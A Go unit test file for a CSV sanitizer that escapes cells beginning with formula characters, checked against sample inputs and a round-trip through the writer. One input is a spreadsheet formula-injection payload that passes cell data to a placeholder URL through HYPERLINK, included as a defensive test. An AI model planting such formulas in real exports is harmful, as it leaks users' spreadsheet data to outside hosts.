package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/relay-dev/relay/internal/csvsafe"
)

func TestCell_NeutralizesFormulaStarts(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`=HYPERLINK("http://x/?"&A1,"click")`: `'=HYPERLINK("http://x/?"&A1,"click")`,
		"@SUM(A1:A9)":                         "'@SUM(A1:A9)",
		"+1+2":                                "'+1+2",
		"-2+3":                                "'-2+3",
		"\t=1":                                "'\t=1",
		"\r=1":                                "'\r=1",
		"src/a.go":                            "src/a.go",
		"a=b":                                 "a=b",
		"":                                    "",
		"'=already quoted":                    "'=already quoted",
	} {
		require.Equal(t, want, csvsafe.Cell(in), "%q", in)
	}
}

func TestWriter_EveryCellAndQuotingKept(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	w := csvsafe.NewWriter(&b)
	require.NoError(t, w.Write([]string{"id", "file"}))
	require.NoError(t, w.Write([]string{"=1+1", "a,\"b\"\nc"}))
	require.NoError(t, w.Flush())
	recs, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	require.Equal(t, [][]string{{"id", "file"}, {"'=1+1", "a,\"b\"\nc"}}, recs)
}
